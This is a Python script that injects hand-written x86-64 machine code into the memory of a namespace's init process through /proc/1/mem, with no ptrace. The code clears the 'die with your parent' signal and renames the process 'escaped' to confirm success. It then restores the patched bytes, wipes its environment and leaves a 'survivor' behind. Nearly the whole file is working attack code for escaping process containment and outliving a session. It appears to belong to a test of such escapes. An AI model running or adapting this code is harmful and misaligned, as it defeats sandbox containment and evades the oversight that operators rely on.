# Takes "die with your parent" from the first process of the namespace by writing code into its memory: no ptrace at all.
import os
import struct

from survivor import leave_survivor, wait_until, wipe_environment

PRCTL = b"\x0f\x05"
memory = open("/proc/1/mem", "r+b", buffering=0)


def peek(at, size):
    memory.seek(at)
    return memory.read(size)


def poke(at, data):
    memory.seek(at)
    memory.write(data)


wait_until(lambda: open("/proc/1/syscall").read().startswith("61 "))
here = int(open("/proc/1/syscall").read().split()[-1], 16)
base = int(open("/proc/1/maps").readline().split("-")[0], 16)
# The program's own start is never run again.
cave = base + struct.unpack("<Q", peek(base + 24, 8))[0]
name, flag = cave + 160, cave + 176
jump = b"\x49\xbb" + struct.pack("<Q", cave) + b"\x41\xff\xe3"
saved = b"\x50\x57\x56\x52\x51\x41\x53\x41\x52\x41\x50"
restored = b"\x41\x58\x41\x5a\x41\x5b\x59\x5a\x5e\x5f\x58"
code = saved
# prctl(PR_SET_PDEATHSIG, 0); prctl(PR_SET_NAME, "escaped"): the second one says that it has happened.
code += b"\xb8\x9d\0\0\0\xbf\x01\0\0\0\x31\xf6" + PRCTL
code += b"\xb8\x9d\0\0\0\xbf\x0f\0\0\0\x48\xbe" + struct.pack("<Q", name) + PRCTL
# Waits until the place where it came from is as it was, and goes on there.
code += b"\x49\xbb" + struct.pack("<Q", flag) + b"\x41\x83\x3b\x00\x74\xfa"
code += restored + b"\x49\xbb" + struct.pack("<Q", here) + b"\x41\xff\xe3"
original = peek(here, len(jump))
poke(name, b"escaped\0")
poke(flag, b"\0\0\0\0")
poke(cave, code)
poke(here, jump)
# A child that it inherits and that ends wakes it.
if os.fork() == 0:
    if os.fork() == 0:
        os._exit(0)
    os._exit(0)
os.wait()
wait_until(lambda: open("/proc/1/comm").read() == "escaped\n")
poke(here, original)
poke(flag, b"\1\0\0\0")
wipe_environment()
leave_survivor()
print("escaped")
